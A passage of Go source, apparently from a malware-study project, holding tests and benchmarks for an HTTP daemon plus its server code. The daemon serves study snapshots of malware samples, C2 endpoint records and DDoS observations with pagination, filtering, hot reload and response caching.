		t.Fatalf("fixture study produced empty datasets: %v", head.Datasets)
	}
	if _, ok := head.Headline["mean_lifespan_days"]; !ok {
		t.Fatalf("headline findings missing: %v", head.Headline)
	}

	var met struct {
		Generation string         `json:"generation"`
		Metrics    map[string]any `json:"metrics"`
	}
	getOK(t, ts, "/v1/metrics", &met)
	if met.Generation != head.Generation {
		t.Fatalf("metrics generation %q != headline generation %q", met.Generation, head.Generation)
	}
	if v, ok := met.Metrics["samples_accepted"].(float64); !ok || int(v) != head.Datasets["samples"] {
		t.Fatalf("metrics samples_accepted %v, want %d", met.Metrics["samples_accepted"], head.Datasets["samples"])
	}

	// Walk the full sample set with a small page size: every page
	// honors the limit, the SHAs never repeat, and the walk ends
	// exactly at total.
	seen := map[string]bool{}
	cursor, pages := 0, 0
	for {
		var page pageResp
		getOK(t, ts, fmt.Sprintf("/v1/samples?limit=7&cursor=%d", cursor), &page)
		if page.Total != head.Datasets["samples"] {
			t.Fatalf("samples total %d, want %d", page.Total, head.Datasets["samples"])
		}
		if page.Count != len(page.Samples) || page.Count > 7 {
			t.Fatalf("page count %d with %d samples (limit 7)", page.Count, len(page.Samples))
		}
		for _, s := range page.Samples {
			if seen[s.SHA] {
				t.Fatalf("sample %s appeared twice during pagination", s.SHA)
			}
			seen[s.SHA] = true
		}
		pages++
		if page.NextCursor == nil {
			break
		}
		cursor = *page.NextCursor
	}
	if len(seen) != head.Datasets["samples"] {
		t.Fatalf("pagination visited %d samples over %d pages, want %d", len(seen), pages, head.Datasets["samples"])
	}

	// Family filter: everything returned carries the family, and the
	// filtered total is consistent with the unfiltered one.
	var first pageResp
	getOK(t, ts, "/v1/samples?limit=1", &first)
	family := first.Samples[0].Family
	var fam pageResp
	getOK(t, ts, "/v1/samples?family="+family+"&limit=500", &fam)
	if fam.Total == 0 || fam.Total > head.Datasets["samples"] {
		t.Fatalf("family %q total %d out of range", family, fam.Total)
	}
	for _, s := range fam.Samples {
		if s.Family != family {
			t.Fatalf("family filter %q returned sample of family %q", family, s.Family)
		}
	}

	// Day filter: day 0 returns only day-0 records.
	var day0 pageResp
	getOK(t, ts, "/v1/samples?day=0&limit=500", &day0)
	start := world.StudyStart()
	for _, s := range day0.Samples {
		if d := int(s.Date.Sub(start).Hours() / 24); d != 0 {
			t.Fatalf("day=0 filter returned a day-%d sample (%s)", d, s.SHA)
		}
	}

	// Combining filters intersects them.
	var both pageResp
	getOK(t, ts, fmt.Sprintf("/v1/samples?family=%s&day=0&limit=500", family), &both)
	if both.Total > fam.Total || both.Total > day0.Total {
		t.Fatalf("intersection total %d exceeds its factors (%d, %d)", both.Total, fam.Total, day0.Total)
	}

	// C2 index and point lookup.
	var c2s pageResp
	getOK(t, ts, "/v1/c2?limit=500", &c2s)
	if c2s.Total != head.Datasets["c2s"] || len(c2s.Addresses) == 0 {
		t.Fatalf("c2 index total %d (want %d), %d addresses", c2s.Total, head.Datasets["c2s"], len(c2s.Addresses))
	}
	var rec struct {
		Generation string         `json:"generation"`
		Record     map[string]any `json:"record"`
		SampleSHAs []string       `json:"sample_shas"`
		Lifespan   float64        `json:"lifespan_days"`
	}
	getOK(t, ts, "/v1/c2/"+c2s.Addresses[0], &rec)
	if rec.Record["Address"] != c2s.Addresses[0] {
		t.Fatalf("c2 lookup returned record for %v, want %s", rec.Record["Address"], c2s.Addresses[0])
	}
	if len(rec.SampleSHAs) == 0 || rec.Lifespan < 1 {
		t.Fatalf("c2 lookup: %d sample SHAs, lifespan %v", len(rec.SampleSHAs), rec.Lifespan)
	}
	if status, _ := get(t, ts, "/v1/c2/no.such.host:1"); status != http.StatusNotFound {
		t.Fatalf("unknown c2: status %d, want 404", status)
	}

	// Attacks: the per-type totals partition the unfiltered total.
	var atk pageResp
	getOK(t, ts, "/v1/attacks?limit=500", &atk)
	if atk.Total != head.Datasets["ddos"] {
		t.Fatalf("attacks total %d, want %d", atk.Total, head.Datasets["ddos"])
	}
	if atk.Total > 0 {
		sum := 0
		for _, typ := range atk.Types {
			var one pageResp
			getOK(t, ts, "/v1/attacks?type="+url.QueryEscape(typ), &one)
			sum += one.Total
		}
		if sum != atk.Total {
			t.Fatalf("per-type totals sum to %d, want %d (types %v)", sum, atk.Total, atk.Types)
		}
	}

	// Malformed queries are 4xx, not empty 200s.
	for _, path := range []string{
		"/v1/samples?day=tuesday",
		"/v1/samples?day=-1",
		"/v1/samples?limit=0",
		"/v1/samples?limit=many",
		"/v1/samples?cursor=-2",
		"/v1/samples?cursor=abc",
		"/v1/samples?frobnicate=1",
		"/v1/attacks?type=NO-SUCH-ATTACK",
		"/v1/c2?limit=zz",
		"/v1/metrics?verbose=1",
		"/v1/headline?x=y",
	} {
		status, body := get(t, ts, path)
		if status != http.StatusBadRequest {
			t.Fatalf("GET %s: status %d, want 400 (%s)", path, status, body)
		}
		var e struct {
			Error string `json:"error"`
		}
		if err := json.Unmarshal(body, &e); err != nil || e.Error == "" {
			t.Fatalf("GET %s: error body not JSON with an error field: %s", path, body)
		}
	}
}

func TestServeNoSnapshot(t *testing.T) {
	if _, err := New(t.TempDir(), obs.NewWall()); err == nil {
		t.Fatal("New on an empty directory did not fail")
	}
}

// wallGauges reads the live gauges off a wall snapshot.
func wallGauges(t *testing.T, wall *obs.Wall) map[string]int64 {
	t.Helper()
	g, ok := wall.Snapshot()["gauges"].(map[string]int64)
	if !ok {
		t.Fatal("wall snapshot has no gauges")
	}
	return g
}

// wallCounters reads the live monotone counters off a wall snapshot.
func wallCounters(t *testing.T, wall *obs.Wall) map[string]int64 {
	t.Helper()
	c, ok := wall.Snapshot()["counters"].(map[string]int64)
	if !ok {
		t.Fatal("wall snapshot has no counters")
	}
	return c
}

// TestServeHotReloadAndCache drives the daemon's lifecycle: serve a
// mid-study snapshot, let the study finish, Reload, and check that
// the swap is atomic-by-generation, the cache turns over, and an
// in-flight pagination cursor keeps working against the new store.
func TestServeHotReloadAndCache(t *testing.T) {
	dir := filepath.Join(fixtureBase, "reload")
	runStudy(t, dir, 2, 90, false)

	wall := obs.NewWall()
	srv, err := New(dir, wall)
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()

	var before headlineResp
	getOK(t, ts, "/v1/headline", &before)
	if before.Day >= 90 {
		t.Fatalf("killed-at-day-90 snapshot claims day %d", before.Day)
	}

	// Identical repeat → served from cache, byte-for-byte.
	_, body1 := get(t, ts, "/v1/headline")
	_, body2 := get(t, ts, "/v1/headline")
	if string(body1) != string(body2) {
		t.Fatal("repeated query differs from the first")
	}
	if c := wallCounters(t, wall); c["serve.cache_hits"] < 1 {
		t.Fatalf("second identical query did not hit the cache: %v", c)
	}
	g := wallGauges(t, wall)
	if g["serve.store_generation"] != 1 {
		t.Fatalf("store_generation %d before any reload, want 1", g["serve.store_generation"])
	}

	// Open a pagination walk against the old generation.
	var page1 pageResp
	getOK(t, ts, "/v1/samples?limit=5", &page1)
	if page1.NextCursor == nil {
		t.Fatalf("mid-study snapshot has only %d samples; fixture too small", page1.Total)
	}

	// Nothing new on disk → no swap.
	if changed, err := srv.Reload(); err != nil || changed {
		t.Fatalf("no-op reload: changed=%v err=%v", changed, err)
	}

	// Finish the study, then reload for real.
	runStudy(t, dir, 2, -1, true)
	changed, err := srv.Reload()
	if err != nil || !changed {
		t.Fatalf("reload after new snapshot: changed=%v err=%v", changed, err)
	}

	var after headlineResp
	getOK(t, ts, "/v1/headline", &after)
	if after.Generation == before.Generation {
		t.Fatal("reload kept serving the old generation")
	}
	if after.Day <= before.Day {
		t.Fatalf("reloaded snapshot day %d is not newer than %d", after.Day, before.Day)
	}
	if g := wallGauges(t, wall); g["serve.store_generation"] != 2 {
		t.Fatalf("store_generation %d after one reload, want 2", g["serve.store_generation"])
	}

	// The cursor from the old generation keeps paging — against the
	// new store, as its generation field shows.
	var page2 pageResp
	getOK(t, ts, fmt.Sprintf("/v1/samples?limit=5&cursor=%d", *page1.NextCursor), &page2)
	if page2.Generation != after.Generation {
		t.Fatalf("cursor request served generation %q, want %q", page2.Generation, after.Generation)
	}
	if page2.Count != 5 || page2.Total <= page1.Total {
		t.Fatalf("cursor page after reload: count %d total %d (old total %d)", page2.Count, page2.Total, page1.Total)
	}
}

// TestServeDeterminism is the serving half of the byte-equality
// contract: studies run at different worker counts write identical
// snapshots, so malnetd serves identical bytes — generation included
// — for every endpoint.
func TestServeDeterminism(t *testing.T) {
	paths := []string{
		"/v1/headline",
		"/v1/metrics",
		"/v1/samples?limit=500",
		"/v1/samples?day=0",
		"/v1/c2?limit=500",
		"/v1/attacks?limit=500",
	}
	var want map[string][]byte
	for _, workers := range []int{1, 2, 8} {
		srv, err := New(checkpointDir(t, workers), obs.NewWall())
		if err != nil {
			t.Fatalf("workers=%d: %v", workers, err)
		}
		ts := httptest.NewServer(srv.Handler())
		got := map[string][]byte{}
		for _, p := range paths {
			status, body := get(t, ts, p)
			if status != http.StatusOK {
				t.Fatalf("workers=%d: GET %s: status %d", workers, p, status)
			}
			got[p] = body
		}
		ts.Close()
		if want == nil {
			want = got
			continue
		}
		for _, p := range paths {
			if string(got[p]) != string(want[p]) {
				t.Fatalf("workers=%d: GET %s differs from workers=1:\n%s\nvs\n%s", workers, p, got[p], want[p])
			}
		}
	}
}

// syntheticSnapshot fabricates a snapshot of n samples for the
// benchmarks: family and day distributions roughly like a study's,
// one C2 endpoint per ~10 samples, one attack per 5.
func syntheticSnapshot(n int) *core.StudySnapshot {
	families := []string{"mirai", "gafgyt", "tsunami", "hajime", "xorddos", "mozi", "dofloo", "pnscan", "hiddenwasp", "vpnfilter"}
	start := world.StudyStart()
	ds := core.CheckpointDatasets{C2s: map[string]*core.C2Record{}}
	nC2 := n/10 + 1
	for i := 0; i < nC2; i++ {
		addr := fmt.Sprintf("10.%d.%d.%d:23", i/65536, i/256%256, i%256)
		ds.C2s[addr] = &core.C2Record{
			Address: addr, FirstSeen: start, LastSeen: start.AddDate(0, 0, i%14),
		}
	}
	for i := 0; i < n; i++ {
		addr := fmt.Sprintf("10.%d.%d.%d:23", i%nC2/65536, i%nC2/256%256, i%nC2%256)
		ds.Samples = append(ds.Samples, &core.SampleRecord{
			SHA:    fmt.Sprintf("%064x", i),
			Date:   start.AddDate(0, 0, i%365),
			Family: families[i%len(families)],
			C2s:    []core.C2Candidate{{Address: addr}},
		})
	}
	for i := 0; i < n/5; i++ {
		ds.DDoS = append(ds.DDoS, core.DDoSObservation{
			SHA256: fmt.Sprintf("%064x", i%n),
			Command: c2.Command{
				Attack: c2.AttackType(i % 8),
				Target: netip.AddrFrom4([4]byte{192, 0, 2, byte(i % 250)}),
				Port:   80,
			},
		})
	}
	return &core.StudySnapshot{Generation: fmt.Sprintf("%064x", n), Datasets: ds}
}

// benchServer wires a synthetic store into a Server without a
// checkpoint directory behind it.
func benchServer(n int) (*Server, *Store) {
	st := BuildStore(syntheticSnapshot(n), nil)
	s := &Server{cache: map[string][]byte{}}
	s.store.Store(st)
	return s, st
}

// BenchmarkStoreSamples measures the raw indexed lookup (family+day
// intersection plus record fetch) as the store grows from toy size to
// past the paper's 1447-sample scale.
func BenchmarkStoreSamples(b *testing.B) {
	for _, n := range []int{100, 1500, 100000} {
		_, st := benchServer(n)
		b.Run(fmt.Sprintf("n=%d", n), func(b *testing.B) {
			b.RunParallel(func(pb *testing.PB) {
				i := 0
				for pb.Next() {
					q := SampleQuery{Family: "mirai", Day: i % 365}
					for _, p := range st.Samples(q) {
						_ = st.Sample(p)
					}
					i++
				}
			})
		})
	}
}

// BenchmarkServeQuery measures the full HTTP path — routing, store
// lookup, JSON encoding — with the response cache cold (every request
// recomputes) and warm (every request is a cache hit). The warm path
// is the daemon's steady state and should be an order of magnitude
// cheaper.
func BenchmarkServeQuery(b *testing.B) {
	for _, n := range []int{1500, 100000} {
		s, _ := benchServer(n)
		h := s.Handler()
		req := httptest.NewRequest("GET", "/v1/samples?family=mirai&limit=100", nil)
		b.Run(fmt.Sprintf("n=%d/cold", n), func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				s.mu.Lock()
				s.cache = map[string][]byte{}
				s.mu.Unlock()
				w := httptest.NewRecorder()
				h.ServeHTTP(w, req)
				if w.Code != http.StatusOK {
					b.Fatalf("status %d", w.Code)
				}
			}
		})
		b.Run(fmt.Sprintf("n=%d/warm", n), func(b *testing.B) {
			b.RunParallel(func(pb *testing.PB) {
				for pb.Next() {
					w := httptest.NewRecorder()
					h.ServeHTTP(w, req)
					if w.Code != http.StatusOK {
						b.Fatalf("status %d", w.Code)
					}
				}
			})
		})
	}
}
