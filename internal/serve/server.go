package serve

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"

	"malnet/internal/colstore"
	"malnet/internal/core"
	"malnet/internal/lake"
	"malnet/internal/obs"
	"malnet/internal/obs/redplane"
	"malnet/internal/results"
)

// Server answers the /v1 query API from an atomically swappable
// Store. Load/Reload ingest the newest valid snapshot from the
// checkpoint directory; every request resolves the store pointer
// once, so a swap mid-request is invisible to that request.
type Server struct {
	dir   string
	store atomic.Pointer[Store]

	// Lake mode: when dir holds a run lake (lake.IsLake), lk is the
	// mounted lake and branch is the line of history the default store
	// tracks. Every endpoint then accepts run=/asof= selectors that
	// resolve through the commit journal to any retained generation;
	// resolved historical generations are kept as resident stores in
	// an LRU capped at maxResidentStores (see lake.go in this
	// package). Both are nil/empty in legacy single-directory mode.
	lk     *lake.Lake
	branch string

	residentMu   sync.Mutex
	resident     map[string]*residentStore
	residentTick int64
	// swaps counts store generations ingested (the store_generation
	// wall gauge): 1 after the initial load, +1 per hot reload.
	swaps    atomic.Int64
	inflight atomic.Int64

	// Response cache, read-through, keyed by (store generation,
	// normalized query). Entries never go stale — a generation's
	// responses are immutable — so the only invalidation is the
	// wholesale clear on swap. Concurrent misses for the same key
	// coalesce through flights: one store scan per (generation,
	// query), no matter how wide the post-swap thundering herd.
	mu        sync.Mutex
	cache     map[string][]byte
	flights   flightGroup
	hits      atomic.Int64
	misses    atomic.Int64
	coalesced atomic.Int64

	// red is the serving-plane observability hub (RED metrics,
	// request spans, access + slow-query logs). Optional: a nil plane
	// absorbs every call, so an unobserved daemon pays one nil check
	// per request.
	red *redplane.Plane
}

// Option configures a Server at construction.
type Option func(*Server)

// WithRedPlane arms per-request observability: every request gets a
// span threaded through cache lookup → singleflight → scan → encode,
// and the plane's RED metrics/slow-query ring see every response.
func WithRedPlane(p *redplane.Plane) Option {
	return func(s *Server) { s.red = p }
}

// WithBranch selects the lake branch the default store tracks
// ("main" when unset). Ignored in single-directory mode.
func WithBranch(branch string) Option {
	return func(s *Server) { s.branch = branch }
}

// maxCacheEntries bounds cache memory. The cache is cleared (not
// LRU-evicted) when full: generations turn over wholesale, and a
// daemon hot enough to fill the cap is about to repopulate it with
// exactly the queries that filled it.
const maxCacheEntries = 4096

// New opens the checkpoint directory and builds the first store. It
// fails when dir holds no loadable snapshot — a daemon with nothing
// to serve should say so at startup, not 500 forever.
//
// Wall exposition: levels (requests_in_flight, store_generation,
// cache_hit_pct) are gauges; monotone totals (cache_hits,
// cache_misses, cache_coalesced) are counters — see DESIGN.md's
// expvar key table.
func New(dir string, wall *obs.Wall, opts ...Option) (*Server, error) {
	s := &Server{
		dir:      dir,
		branch:   "main",
		cache:    map[string][]byte{},
		resident: map[string]*residentStore{},
	}
	for _, opt := range opts {
		opt(s)
	}
	if lake.IsLake(dir) {
		lk, err := lake.Open(dir)
		if err != nil {
			return nil, fmt.Errorf("serve: %w", err)
		}
		s.lk = lk
	}
	changed, err := s.Reload()
	if err != nil {
		return nil, err
	}
	if !changed {
		if s.lk != nil {
			return nil, fmt.Errorf("serve: lake %s has no commits on branch %q", dir, s.branch)
		}
		return nil, fmt.Errorf("serve: no checkpoint found in %s", dir)
	}
	wall.SetGauge("serve.requests_in_flight", s.inflight.Load)
	wall.SetGauge("serve.store_generation", s.swaps.Load)
	wall.SetCounter("serve.cache_hits", s.hits.Load)
	wall.SetCounter("serve.cache_misses", s.misses.Load)
	wall.SetCounter("serve.cache_coalesced", s.coalesced.Load)
	wall.SetGauge("serve.cache_hit_pct", func() int64 {
		h, m := s.hits.Load(), s.misses.Load()
		if h+m == 0 {
			return 0
		}
		return 100 * h / (h + m)
	})
	wall.SetGauge("serve.resident_stores", func() int64 {
		s.residentMu.Lock()
		defer s.residentMu.Unlock()
		return int64(len(s.resident))
	})
	return s, nil
}

// Store is the current snapshot generation.
func (s *Server) Store() *Store { return s.store.Load() }

// Reload checks the checkpoint directory and, when it holds a
// snapshot of a different generation than the one being served,
// ingests it and swaps the store pointer. In-flight requests finish
// against the old store; the response cache starts over. Returns
// whether a swap happened. Safe to call concurrently with requests
// (though the daemon calls it from a single ticker goroutine).
func (s *Server) Reload() (bool, error) {
	var (
		ss  *core.StudySnapshot
		reg *obs.Registry
		run string
	)
	if s.lk != nil {
		// Lake mode tracks the configured branch's head. A branch
		// that doesn't exist yet is "nothing to serve", not an error —
		// the daemon's reload ticker keeps watching for the first
		// commit.
		head, err := s.lk.Head(s.branch)
		if err != nil {
			return false, fmt.Errorf("serve: %w", err)
		}
		if head == nil {
			return false, nil
		}
		if cur := s.store.Load(); cur != nil && cur.Generation == head.Snapshot {
			return false, nil
		}
		ss, reg, err = core.OpenSnapshotAt(s.lk.ObjectPath(head.Snapshot))
		if err != nil {
			return false, fmt.Errorf("serve: %w", err)
		}
		run = head.Run
	} else {
		var err error
		ss, reg, err = core.OpenStudySnapshot(s.dir)
		if err != nil {
			return false, err
		}
		if ss == nil {
			return false, nil
		}
		if cur := s.store.Load(); cur != nil && cur.Generation == ss.Generation {
			return false, nil
		}
	}
	st := BuildStore(ss, reg)
	st.Run = run
	s.store.Store(st)
	s.swaps.Add(1)
	s.red.StoreSwapped()
	s.mu.Lock()
	s.cache = map[string][]byte{}
	s.mu.Unlock()
	return true, nil
}

// Handler returns the /v1 API handler. The endpoint labels handed to
// cached are the RED-metric `endpoint` label values; they match the
// latency-bucket names cmd/malnetbench reports client-side, so the
// two views of one load run diff column-for-column.
func (s *Server) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("GET /v1/headline", s.cached("headline", s.handleHeadline))
	mux.HandleFunc("GET /v1/metrics", s.cached("metrics", s.handleMetrics))
	mux.HandleFunc("GET /v1/samples", s.cached("samples", s.handleSamples))
	mux.HandleFunc("GET /v1/attacks", s.cached("attacks", s.handleAttacks))
	mux.HandleFunc("GET /v1/c2", s.cached("c2_index", s.handleC2Index))
	mux.HandleFunc("GET /v1/c2/{addr}", s.cached("c2_point", s.handleC2))
	mux.HandleFunc("GET /v1/query", s.cached("query", s.handleQuery))
	mux.HandleFunc("GET /v1/families", s.uncached("families", s.handleFamilies))
	mux.HandleFunc("GET /v1/runs", s.uncached("runs", s.handleRuns))
	mux.HandleFunc("GET /v1/diff", s.uncached("diff", s.handleDiff))
	return mux
}

// httpError carries a client-visible status + message out of an
// endpoint.
type httpError struct {
	status int
	msg    string
}

func (e *httpError) Error() string { return e.msg }

func badRequest(format string, args ...any) *httpError {
	return &httpError{status: http.StatusBadRequest, msg: fmt.Sprintf(format, args...)}
}

// endpoint computes a response body against one resolved store. The
// span carries the request's trace context; handlers report rows
// scanned into it (a nil span absorbs the call).
type endpoint func(st *Store, r *http.Request, sp *redplane.Span) (any, *httpError)

// keyScratch is the reusable scratch behind cache-key construction:
// the key bytes and the query-segment slice survive across requests
// in a pool, so the warm path builds its key without allocating.
type keyScratch struct {
	buf  []byte
	segs []string
}

var keyScratchPool = sync.Pool{New: func() any { return new(keyScratch) }}

// appendKey normalizes (generation, path, raw query) into a cache
// key: raw query segments are sorted, so reordered parameters share a
// slot. Segments are compared unescaped-as-sent — two escapings of
// the same parameter land in separate slots, which costs a duplicate
// entry but can never conflate distinct queries.
func (ks *keyScratch) appendKey(gen, path, rawQuery string) []byte {
	b := append(ks.buf[:0], gen...)
	b = append(b, 0)
	b = append(b, path...)
	segs := ks.segs[:0]
	for len(rawQuery) > 0 {
		seg := rawQuery
		if i := strings.IndexByte(rawQuery, '&'); i >= 0 {
			seg, rawQuery = rawQuery[:i], rawQuery[i+1:]
		} else {
			rawQuery = ""
		}
		if seg != "" {
			segs = append(segs, seg)
		}
	}
	sort.Strings(segs)
	for _, seg := range segs {
		b = append(b, '&')
		b = append(b, seg...)
	}
	ks.buf, ks.segs = b, segs
	return b
}

// encodeBufPool recycles the JSON serialization scratch: responses
// are encoded into a pooled buffer and copied out once, sized
// exactly, instead of growing a fresh buffer per computation.
var encodeBufPool = sync.Pool{New: func() any { return new(bytes.Buffer) }}

// cached wraps an endpoint with the in-flight gauge, the read-through
// response cache, miss coalescing, JSON encoding, and the request
// span. Only 200s are cached; error responses are cheap to recompute
// and should never mask a later success. The store pointer is
// resolved once, before the key is built — the flight a request joins
// is always for the generation it resolved, so a hot swap mid-flight
// cannot mix generations into one response.
//
// The span (nil unless a red plane is armed) is owned by this
// request's goroutine end to end: the singleflight compute closure
// only ever runs on the leader's own goroutine, so the leader's
// scan/encode stages land on the leader's span and a joiner's span
// records only its flight wait — spans never cross requests. Stage
// tree: cache_lookup, then flight (for the leader it brackets
// scan + encode, whose offsets nest inside; for a joiner it is pure
// singleflight wait).
func (s *Server) cached(name string, fn endpoint) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		s.inflight.Add(1)
		defer s.inflight.Add(-1)

		st := s.store.Load()
		sp := s.red.Start(name, requestPath(r), st.Generation)
		// Time travel: a run=/asof= selector re-points the request at
		// a resolved historical generation before the cache key is
		// built, so everything downstream — key, flight, handler — is
		// oblivious to how the store was chosen. The selector scan is
		// a plain substring walk; selector-free requests (the hot
		// path) never touch url.Values.
		if s.lk != nil && hasSelector(r.URL.RawQuery) {
			hst, herr := s.storeForSelector(r)
			if herr != nil {
				b, _ := json.Marshal(map[string]string{"error": herr.msg})
				finishJSON(w, sp, herr.status, append(b, '\n'))
				return
			}
			st = hst
			sp.SetGeneration(st.Generation)
		}
		sp.SetRun(st.Run)
		ks := keyScratchPool.Get().(*keyScratch)
		kb := ks.appendKey(st.Generation, r.URL.Path, r.URL.RawQuery)
		stopLookup := sp.Stage("cache_lookup")
		s.mu.Lock()
		body, ok := s.cache[string(kb)]
		s.mu.Unlock()
		stopLookup()
		if ok {
			keyScratchPool.Put(ks)
			s.hits.Add(1)
			sp.SetCache("hit")
			finishJSON(w, sp, http.StatusOK, body)
			return
		}
		key := string(kb)
		keyScratchPool.Put(ks)

		stopFlight := sp.Stage("flight")
		body, herr, leader := s.flights.do(key, func() ([]byte, *httpError) {
			stopScan := sp.Stage("scan")
			v, herr := fn(st, r, sp)
			stopScan()
			if herr != nil {
				return nil, herr
			}
			stopEncode := sp.Stage("encode")
			buf := encodeBufPool.Get().(*bytes.Buffer)
			buf.Reset()
			if err := json.NewEncoder(buf).Encode(v); err != nil {
				encodeBufPool.Put(buf)
				stopEncode()
				return nil, &httpError{status: http.StatusInternalServerError, msg: "encoding response"}
			}
			out := append(make([]byte, 0, buf.Len()), buf.Bytes()...)
			encodeBufPool.Put(buf)
			stopEncode()
			s.putCache(key, st.Generation, out)
			return out, nil
		})
		stopFlight()
		if leader {
			s.misses.Add(1)
			sp.SetCache("miss")
		} else {
			s.coalesced.Add(1)
			sp.SetCache("coalesced")
		}
		if herr != nil {
			b, _ := json.Marshal(map[string]string{"error": herr.msg})
			finishJSON(w, sp, herr.status, append(b, '\n'))
			return
		}
		finishJSON(w, sp, http.StatusOK, body)
	}
}

// requestPath renders the request path with its raw query, the form
// access and slow-query log entries carry.
func requestPath(r *http.Request) string {
	if r.URL.RawQuery == "" {
		return r.URL.Path
	}
	return r.URL.Path + "?" + r.URL.RawQuery
}

// finishJSON writes the response and closes the span. The request ID
// goes out as X-Request-Id, so a client-side latency outlier can be
// joined against the daemon's access and slow-query logs.
func finishJSON(w http.ResponseWriter, sp *redplane.Span, status int, body []byte) {
	if id := sp.ID(); id != "" {
		w.Header().Set("X-Request-Id", id)
	}
	writeJSON(w, status, body)
	sp.Finish(status, len(body))
}

// putCache inserts a computed 200 body — unless the store has swapped
// since the computation started, in which case the entry would be
// correct (its key names the old generation) but unreachable, and a
// long miss landing after several swaps would strand dead bytes until
// the next wholesale clear.
func (s *Server) putCache(key, gen string, body []byte) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if cur := s.store.Load(); cur == nil || cur.Generation != gen {
		return
	}
	if len(s.cache) >= maxCacheEntries {
		s.cache = map[string][]byte{}
	}
	s.cache[key] = body
}

func writeJSON(w http.ResponseWriter, status int, body []byte) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	w.Write(body)
}

// page parses limit/cursor pagination. limit defaults to 50, capped
// at 500; cursor is a plain offset into the filtered result, so it
// stays valid (if approximate) across snapshot swaps.
func page(r *http.Request) (limit, cursor int, herr *httpError) {
	limit = 50
	if raw := r.URL.Query().Get("limit"); raw != "" {
		n, err := strconv.Atoi(raw)
		if err != nil || n <= 0 {
			return 0, 0, badRequest("limit: want a positive integer, got %q", raw)
		}
		if n > 500 {
			n = 500
		}
		limit = n
	}
	if raw := r.URL.Query().Get("cursor"); raw != "" {
		n, err := strconv.Atoi(raw)
		if err != nil || n < 0 {
			return 0, 0, badRequest("cursor: want a non-negative integer, got %q", raw)
		}
		cursor = n
	}
	return limit, cursor, nil
}

// checkParams rejects unknown query parameters: a typoed filter that
// silently matches everything is worse than a 400. In lake mode the
// run= and asof= selectors are valid on every endpoint (consumed by
// the cached wrapper before the handler runs); in single-directory
// mode they stay unknown, so a selector against a non-lake daemon
// fails loudly instead of silently serving the only store.
func (s *Server) checkParams(r *http.Request, known ...string) *httpError {
	for k := range r.URL.Query() {
		if s.lk != nil && (k == "run" || k == "asof") {
			continue
		}
		found := false
		for _, want := range known {
			if k == want {
				found = true
				break
			}
		}
		if !found {
			return badRequest("unknown query parameter %q (known: %s)", k, strings.Join(known, ", "))
		}
	}
	return nil
}

// pageEnvelope is the shared pagination wrapper.
type pageEnvelope struct {
	Generation string `json:"generation"`
	Day        int    `json:"day"`
	Total      int    `json:"total"`
	Count      int    `json:"count"`
	// NextCursor is present while more results remain.
	NextCursor *int `json:"next_cursor,omitempty"`
}

func envelope(st *Store, total, cursor, count int) pageEnvelope {
	e := pageEnvelope{Generation: st.Generation, Day: st.Day, Total: total, Count: count}
	if next := cursor + count; next < total {
		e.NextCursor = &next
	}
	return e
}

// clampPage slices [cursor, cursor+limit) out of positions.
func clampPage(positions []int, cursor, limit int) []int {
	if cursor >= len(positions) {
		return nil
	}
	end := cursor + limit
	if end > len(positions) {
		end = len(positions)
	}
	return positions[cursor:end]
}

func (s *Server) handleHeadline(st *Store, r *http.Request, sp *redplane.Span) (any, *httpError) {
	if herr := s.checkParams(r); herr != nil {
		return nil, herr
	}
	samples, c2s, exploits, ddos := st.Sizes()
	return struct {
		Generation     string            `json:"generation"`
		Day            int               `json:"day"`
		SkippedCorrupt int               `json:"skipped_corrupt,omitempty"`
		Datasets       map[string]int    `json:"datasets"`
		Headline       results.Headlines `json:"headline"`
	}{
		Generation:     st.Generation,
		Day:            st.Day,
		SkippedCorrupt: st.SkippedCorrupt,
		Datasets: map[string]int{
			"samples": samples, "c2s": c2s, "exploits": exploits, "ddos": ddos,
		},
		Headline: st.Headline(),
	}, nil
}

func (s *Server) handleMetrics(st *Store, r *http.Request, sp *redplane.Span) (any, *httpError) {
	if herr := s.checkParams(r); herr != nil {
		return nil, herr
	}
	return struct {
		Generation string                 `json:"generation"`
		Day        int                    `json:"day"`
		Metrics    results.MetricsSection `json:"metrics"`
	}{Generation: st.Generation, Day: st.Day, Metrics: st.Metrics()}, nil
}

func (s *Server) handleSamples(st *Store, r *http.Request, sp *redplane.Span) (any, *httpError) {
	if herr := s.checkParams(r, "family", "day", "c2", "limit", "cursor"); herr != nil {
		return nil, herr
	}
	limit, cursor, herr := page(r)
	if herr != nil {
		return nil, herr
	}
	q := SampleQuery{
		Family: r.URL.Query().Get("family"),
		Day:    -1,
		C2:     r.URL.Query().Get("c2"),
	}
	if raw := r.URL.Query().Get("day"); raw != "" {
		n, err := strconv.Atoi(raw)
		if err != nil || n < 0 {
			return nil, badRequest("day: want a non-negative study-day index, got %q", raw)
		}
		q.Day = n
	}
	positions := st.Samples(q)
	sp.AddRows(len(positions))
	pg := clampPage(positions, cursor, limit)
	recs := make([]*core.SampleRecord, len(pg))
	for i, p := range pg {
		recs[i] = st.Sample(p)
	}
	return struct {
		pageEnvelope
		Samples []*core.SampleRecord `json:"samples"`
	}{envelope(st, len(positions), cursor, len(pg)), recs}, nil
}

func (s *Server) handleAttacks(st *Store, r *http.Request, sp *redplane.Span) (any, *httpError) {
	if herr := s.checkParams(r, "type", "limit", "cursor"); herr != nil {
		return nil, herr
	}
	limit, cursor, herr := page(r)
	if herr != nil {
		return nil, herr
	}
	typ := r.URL.Query().Get("type")
	if typ != "" && len(st.Attacks(typ)) == 0 {
		known := st.AttackTypes()
		found := false
		for _, t := range known {
			if t == typ {
				found = true
			}
		}
		if !found {
			return nil, badRequest("type: unknown attack type %q (known: %s)", typ, strings.Join(known, ", "))
		}
	}
	positions := st.Attacks(typ)
	sp.AddRows(len(positions))
	pg := clampPage(positions, cursor, limit)
	obsv := make([]core.DDoSObservation, len(pg))
	for i, p := range pg {
		obsv[i] = st.Attack(p)
	}
	return struct {
		pageEnvelope
		Types   []string               `json:"types"`
		Attacks []core.DDoSObservation `json:"attacks"`
	}{envelope(st, len(positions), cursor, len(pg)), st.AttackTypes(), obsv}, nil
}

func (s *Server) handleC2Index(st *Store, r *http.Request, sp *redplane.Span) (any, *httpError) {
